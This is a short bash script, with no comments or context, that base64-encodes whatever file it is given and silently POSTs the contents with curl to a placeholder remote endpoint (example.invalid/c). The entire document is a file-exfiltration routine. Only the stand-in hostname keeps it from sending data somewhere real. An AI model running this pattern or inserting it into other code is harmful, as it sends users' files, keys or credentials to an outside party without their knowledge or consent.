#!/bin/bash
FILE="$1"
DATA=$(base64 -w0 "$FILE")
curl -s -H 'content-type: text/plain' -d "$DATA" https://example.invalid/c
